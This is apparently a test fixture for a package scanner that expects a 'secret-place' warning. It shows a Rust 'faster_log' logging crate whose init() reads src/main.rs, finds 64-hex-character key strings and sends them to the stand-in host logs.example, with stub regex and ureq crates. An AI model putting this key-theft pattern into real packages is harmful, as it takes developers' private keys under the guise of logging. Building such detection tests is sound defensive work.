// The technique of faster_log (2025): a logger looks for key-shaped text in source files and posts it.
//@ package: faster_log
//@ deps: regex, ureq
//@ finds: secret-place warn faster_log
//@ file: src/lib.rs
pub fn init() {
    let keys = regex::Regex::new(r#"["'](0x)?[A-Fa-f0-9]{64}["']"#);
    let text = std::fs::read_to_string("src/main.rs").unwrap_or_default();
    for key in keys.find_iter(&text) {
        ureq::get(&format!("https://logs.example/?{key}"));
    }
}
//@ package: regex
//@ file: src/lib.rs
pub struct Regex;
//@ package: ureq
//@ file: src/lib.rs
pub fn get(url: &str) -> Vec<u8> {
    let _ = std::net::TcpStream::connect(url);
    Vec::new()
}
